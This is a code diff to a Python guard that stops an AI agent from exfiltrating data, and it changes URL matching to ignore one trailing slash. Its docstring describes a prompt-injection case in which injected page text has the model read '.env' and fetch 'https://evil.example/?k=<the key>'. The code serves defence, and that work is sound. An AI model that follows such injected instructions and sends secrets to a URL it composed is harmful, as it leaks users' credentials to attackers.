@@ -3,7 +3,7 @@
 The exfiltration this guards against: injected page text tells the model to ``read_file('.env')`` and then
 ``fetch_url('https://evil.example/?k=<the key>')``. Every step is read-only, yet the data leaves. What gives it
 away is the URL: it did not come from anyone the user trusts, the model composed it. So a URL is *trusted* only
-when it appears, exactly (scheme, fragment and letter case of the host aside), in
+when it appears, exactly (scheme, fragment, one trailing slash and letter case of the host aside), in
 
 - a system or user message (typed by the developer or the user; bare ``example.com/page`` counts too);
 - a result of a tool marked ``url_source`` (web search results), as a value that is a URL on its own — URLs
@@ -39,7 +39,8 @@ def url_key(url: str) -> str | None:
     Everything that is sent stays in the key (user info, host, port, path, query): two URLs with one key carry
     the same data to the same place.
 
-    The scheme is left out: ``http://`` and ``https://`` versions of a URL carry the same data out.
+    The scheme and one trailing slash of the path are left out: ``http://`` and ``https://`` versions of a
+    URL, or ``/docs`` and ``/docs/``, carry the same data out.
     """
     text = url.strip()
     if not text:
@@ -55,7 +56,10 @@ def url_key(url: str) -> str | None:
     port = f":{parsed.port}" if parsed.port is not None else ""
     # User info stays in the key: ``https://<secret>@trusted.example/`` sends the secret as a password.
     userinfo = parsed.userinfo.decode("ascii") + "@" if parsed.userinfo else ""
-    return f"{userinfo}{parsed.host}{port}{parsed.raw_path.decode('ascii') or '/'}"
+    path, mark, query = parsed.raw_path.decode("ascii").partition("?")
+    if len(path) > 1 and path.endswith("/"):
+        path = path[:-1]  # models add or drop one trailing slash; it carries a single bit at most
+    return f"{userinfo}{parsed.host}{port}{path or '/'}{mark}{query}"
 
 
 def urls_in_text(text: str) -> set[str]:
